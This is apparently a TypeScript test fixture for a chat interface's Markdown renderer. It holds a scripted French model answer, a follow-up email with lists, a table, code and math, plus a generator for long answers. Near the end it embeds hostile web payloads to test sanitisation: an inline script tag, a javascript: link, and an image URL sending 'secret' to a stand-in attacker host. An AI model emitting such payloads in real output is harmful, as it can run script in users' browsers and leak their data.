/** What the scripted model says by default: the Markdown of a helpful answer, and what a hostile one would slip in. */
export const DEFAULT_ANSWER = `Voici une proposition, à relire avant l’envoi.

## Courriel de relance

Madame, Monsieur,

Sauf erreur de ma part, je n’ai **pas reçu** votre réponse au sujet de la *convention* ; l’échéance est fixée au « 15 décembre ».

1. Relire la pièce jointe
2. Répondre avant le 15
   - par courriel
   - ou par téléphone

| Étape | Délai | Montant |
|:------|:-----:|--------:|
| Dépôt | 8 jours | 1 200 € |
| Instruction | 2 mois | — |

\`\`\`python
def relance(nom: str) -> str:
    return f"Bonjour {nom} | **pas du gras**"
\`\`\`

La part due vaut $$\\frac{a + b}{2}$$ du total, et le ticket coûte 5 $ et non 10 $.

Voir [le site officiel](https://www.service-public.fr/) ; <script>window.pirate = true</script><b>gras brut</b>
[piège](javascript:alert(1)) ![pixel](https://pirate.example/pixel.png?q=secret)

Cordialement 🙂 — œuvre, ça, naïve, Noël. Réponse de l’essai, fin.`;

/** A long, regular answer: `count` words. */
export const wordsAnswer = (count: number): string =>
  Array.from({ length: count }, (_, index) => `mot${index + 1}`).join(" ");
